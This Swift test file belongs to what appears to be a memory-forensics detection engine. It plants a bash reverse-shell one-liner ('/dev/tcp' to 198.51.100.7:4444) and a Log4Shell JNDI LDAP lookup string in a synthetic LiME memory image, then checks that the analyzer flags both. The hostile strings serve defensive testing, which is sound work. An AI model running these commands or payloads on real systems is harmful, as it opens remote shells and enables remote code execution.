import Bytes
import Detectors
import Evidence
import MemoryParse
import TestSupport
import Testing

@testable import Engine

struct MemoryTextTests {
  private let artifact = Digest(of: Array("a".utf8))

  /// A small LiME image of one range without any kernel in it.
  private func image(_ bytes: [UInt8]) throws -> any MemoryImage {
    var builder = LiMEBuilder()
    builder.range(0x10_0000, bytes)
    return try MemoryImages.open(mapped(builder.bytes)).0
  }

  @Test func withoutAKernelTheTextIsFoundAndNobodysItIs() throws {
    var bytes = [UInt8](repeating: 0, count: 64 << 10)
    bytes.replaceSubrange(5000..<5042, with: Array("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1".utf8))
    let lookup: [UInt8] = Array("${jndi:ldap://198.51.100.7:1389/a}".utf8).flatMap { [$0, 0] }
    bytes.replaceSubrange(9000..<9000 + lookup.count, with: lookup)
    let image = try image(bytes)
    let sink = CollectingSink()
    MemoryTextAnalyzer.search(MemorySpaces(image), artifact: artifact, byteCount: 65568, into: sink)
    #expect(Set(sink.findings.map(\.rule)) == ["reverse-shell.command-line", "log4shell.jndi-lookup"])
    #expect(sink.findings.allSatisfy { $0.evidence.first?.locator.physical ?? 0 > 0x10_0000 })
    #expect(sink.findings.allSatisfy { $0.evidence.first?.locator.pid == nil })
    #expect(sink.coverages.first?.reason?.contains("no owner") == true)
  }

  @Test func holdersAreToldOnceEach() {
    var found = TextFindings(artifact: artifact)
    let detection = TextDetection(
      .reverseShell, rule: "r", title: "t", severity: .medium, attack: [], range: 0..<4, raw: "text", message: "m")
    for number in 0..<40 {
      var place = Locator()
      place.physical = UInt64(number) << 12
      found.add(detection, at: place, holder: number < 20 ? "pid 1 (init)" : "the kernel")
    }
    let sink = CollectingSink()
    found.report(into: sink) { place in
      var place = place
      place.other["shared"] = "2"
      return place
    }
    #expect(sink.findings.count == 1)
    #expect(sink.findings.first?.evidence.count == TextFindings.maximumPlaces)
    #expect(sink.findings.first?.evidence.allSatisfy { $0.locator.other["shared"] == "2" } == true)
    #expect(sink.findings.first?.message.contains("in the memory of pid 1 (init), the kernel") == true)
  }
}
